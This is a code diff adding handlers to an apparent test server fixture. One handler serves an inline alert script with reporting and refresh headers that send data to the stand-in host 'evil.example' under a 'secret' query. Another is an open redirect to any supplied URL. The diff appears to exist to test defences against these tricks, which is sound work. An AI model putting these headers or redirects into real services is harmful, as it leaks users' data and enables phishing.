@@ -57,8 +57,9 @@ class Upstream:
         self._stop = asyncio.Event()
         app = web.Application(client_max_size=2**40)
         app.router.add_route("GET", "/dagster/graphql", self._ws_or_echo)
-        app.router.add_route("*", "/artifacts/a/data/page.html", self._page)
-        for name in (*STREAMS, "refuse", "raw", "ws", "redirect", "status", "steer", "hang-up", "garbage", "cookies"):
+        app.router.add_route("*", "/{path:.*}page.html", self._page)
+        for name in (*STREAMS, "refuse", "raw", "ws", "redirect", "status", "steer", "hang-up", "garbage", "cookies",
+                     "subvert", "lead"):  # fmt: skip
             app.router.add_route("*", f"/{name}", getattr(self, f"_{name.replace('-', '_')}"))
         app.router.add_route("*", "/{path:.*}", self._echo)
         runner = web.AppRunner(
@@ -200,6 +201,24 @@ class Upstream:
             "Server": "mine/1.0",
         }
         return web.Response(text="as it came", headers=orders)
+
+    async def _subvert(self, request: web.Request) -> web.Response:
+        """A page that would tell what its container cannot, by way of whoever looks at it."""
+        away = "http://evil.example/?secret"
+        orders = {
+            "Content-Security-Policy": "default-src * 'unsafe-inline'",
+            "Content-Security-Policy-Report-Only": f"default-src 'none'; report-uri {away}",
+            "NEL": '{"report_to": "x", "max_age": 1}',
+            "Refresh": f"0; url={away}",
+            "Report-To": "{}",
+            "Reporting-Endpoints": f'x="{away}"',
+        }
+        return web.Response(text="<script>alert(1)</script>", content_type="text/html", headers=orders)
+
+    async def _lead(self, request: web.Request) -> web.Response:
+        """Redirect wherever it is told."""
+        location = request.query["to"].format(port=self.port)
+        return web.Response(status=307, headers={"Location": location})
 
     async def _cookies(self, request: web.Request) -> web.Response:
         response = web.Response()
